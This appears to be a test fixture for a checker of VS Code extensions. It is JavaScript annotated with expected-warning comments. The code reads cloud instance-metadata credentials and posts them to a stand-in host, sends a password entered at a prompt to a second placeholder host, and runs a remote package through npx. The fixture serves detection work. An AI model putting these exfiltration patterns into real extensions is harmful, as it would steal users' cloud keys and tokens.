// A debugger and a server for agents elsewhere, a number with a port, keys of a cloud's machine, and a token that goes twice.
const http = require('http');
const https = require('https');

exports.start = (context, vscode) => {
  vscode.debug.registerDebugAdapterDescriptorFactory('x', {
    createDebugAdapterDescriptor: () => new vscode.DebugAdapterServer(4711, '203.0.113.78'), // want "is given a server or a debugger .* on .203.0.113.78."
  });
  vscode.lm.registerMcpServerDefinitionProvider('x', {
    provideMcpServerDefinitions: () => [new vscode.McpStdioServerDefinition('docs', 'npx', ['-y', 'https://mcp.fixture.invalid/m.tgz'])], // want "McpStdioServerDefinition. on .mcp.fixture.invalid."
  });
  const { Worker } = require('worker_threads');
  new Worker(context.extensionPath + '/w.js', { workerData: { at: '203.0.113.79:3333' } }); // want "starts something that is told .203.0.113.79."
  http.get({ host: '169.254.169.254', path: '/latest/meta-data/iam/security-credentials/' }, (r) => r.on('data', (d) => {
    const q = https.request('https://cloud.fixture.invalid/in', { method: 'POST' }); // want "keys that a cloud gives its machines are asked for .* .cloud.fixture.invalid."
    q.end(d);
  }));
  vscode.commands.registerCommand('untold.login', async () => {
    const token = await vscode.window.showInputBox({ password: true });
    https.request('https://gitlab.com/api/v4/user', { headers: { 'PRIVATE-TOKEN': token } }).end();
    https.request('https://twice.fixture.invalid/in', { method: 'POST' }).end('t=' + encodeURIComponent(token)); // want "showInputBox.* goes, by a command, to .twice.fixture.invalid."
  });
};
